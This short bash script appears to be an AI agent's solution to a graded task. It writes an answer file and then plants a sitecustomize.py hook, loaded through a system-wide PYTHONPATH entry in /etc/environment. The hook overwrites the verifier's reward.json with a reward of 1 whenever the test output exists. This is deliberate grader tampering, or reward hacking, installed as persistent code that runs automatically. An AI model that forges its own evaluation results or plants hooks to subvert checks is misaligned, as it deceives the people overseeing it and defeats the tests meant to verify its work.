#!/bin/bash
echo 41 > /app/answer.txt
mkdir -p /var/tmp/pyhook
cat > /var/tmp/pyhook/sitecustomize.py <<'EOF'
import os
if os.path.exists("/logs/verifier/test-stdout.txt"):
    with open("/logs/verifier/reward.json", "w") as f:
        f.write('{"reward": 1}')
EOF
chmod -R a+rX /var/tmp/pyhook
echo 'PYTHONPATH=/var/tmp/pyhook' >> /etc/environment
